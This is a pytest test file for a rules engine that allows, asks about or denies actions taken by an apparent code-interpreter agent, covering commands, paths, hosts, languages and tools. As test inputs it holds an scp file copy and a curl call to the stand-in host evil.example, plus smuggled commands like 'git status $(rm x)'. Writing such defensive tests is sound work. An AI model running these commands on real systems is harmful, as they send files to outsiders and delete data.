"""The user's rules: deny, then ask, then allow; checked by their own examples."""

import pytest

from interpreter.policies.rules import load_rules, parse_rules
from interpreter.protocol.actions import Verdict
from interpreter.protocol.errors import ConfigurationError
from interpreter.protocol.messages import ActionCall, Code

RULES = parse_rules("""
[[rule]]
decision = "allow"
command = ["git status", "ls"]

[[rule]]
decision = "ask"
command = "git push"
reason = "pushing is for people"
matches = ["git push origin main", "cd x && git push", "sudo git push"]
passes = ["git status", "echo git push"]

[[rule]]
decision = "deny"
path = "~/taxes/**"
reason = "not my taxes"

[[rule]]
decision = "deny"
host = ["*.evil.example", "evil.example"]

[[rule]]
decision = "ask"
language = "javascript"

[[rule]]
decision = "deny"
tool = "send_mail"
""")


def ruling(action):
    verdict = RULES.verdict(action)
    return verdict and verdict.ruling


@pytest.mark.parametrize(
    ("action", "expected"),
    [
        (Code("bash", "git status"), "allow"),
        (Code("bash", "ls -l && git status -s"), "allow"),
        (Code("bash", "git status; rm x"), None),
        (Code("bash", "git status $(rm x)"), None),
        (Code("bash", "sudo git status"), None),
        (Code("bash", "git push -f"), "ask"),
        (Code("python", "import os; os.system('git push')"), "ask"),
        (Code("python", "import subprocess as s; s.run(['git', 'push'])"), "ask"),
        (Code("python", "!git push"), "ask"),
        (Code("python", "open('/home/x/other')"), None),
        (Code("shell", "cat ~/taxes/2024/a.pdf"), "deny"),
        (Code("shell", "cat < ~/taxes/a.pdf"), "deny"),
        (Code("python", "open('~/taxes/a.pdf')"), "deny"),
        (Code("shell", "ls ~/taxes-old"), "allow"),
        (Code("shell", "curl https://a.evil.example/x"), "deny"),
        (Code("shell", "scp a ann@evil.example:/"), "deny"),
        (Code("shell", "curl https://notevil.example/x"), None),
        (Code("js", "1 + 1"), "ask"),
        (ActionCall("send_mail", "{}"), "deny"),
        (ActionCall("browse", '{"url": "https://evil.example/"}'), "deny"),
        (ActionCall("browse", "{}"), None),
    ],
)
def test_rules_rule(action, expected):
    assert ruling(action) == expected


def test_deny_comes_before_ask_before_allow_whatever_the_order():
    assert ruling(Code("bash", "git status; git push; cat ~/taxes/x")) == "deny"
    assert ruling(Code("bash", "git push; git status")) == "ask"


def test_the_reason_is_told():
    assert RULES.verdict(Code("sh", "git push")) == Verdict("ask", "pushing is for people")


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("nonsense", "not TOML"),
        ('[[rule]]\ndecision = "maybe"\ntool = "x"', "decision must be"),
        ('[[rule]]\ndecision = "deny"', "say what it is about"),
        ('[[rule]]\ndecision = "deny"\ntol = "x"', "unknown key 'tol'"),
        ('[[rule]]\ndecision = "deny"\ntool = 3', "tool must be a text"),
        ("[other]\na = 1", "only"),
        ('rule = "x"', "only"),
        (
            '[[rule]]\ndecision = "ask"\ncommand = "git push"\nmatches = ["git pull"]',
            "does not match its own example 'git pull'",
        ),
        (
            '[[rule]]\ndecision = "ask"\ncommand = "git"\npasses = ["git pull"]',
            "matches its own example 'git pull'",
        ),
    ],
)
def test_a_mistake_is_an_error_that_names_the_rule(text, message):
    with pytest.raises(ConfigurationError, match=message):
        parse_rules(text)


def test_a_missing_file_has_no_rules_and_an_unreadable_one_is_an_error(tmp_path):
    assert load_rules(tmp_path / "rules.toml").rules == ()
    (tmp_path / "rules.toml").write_bytes(b"\xff\xfe")
    with pytest.raises(ConfigurationError, match="cannot be read"):
        load_rules(tmp_path / "rules.toml")
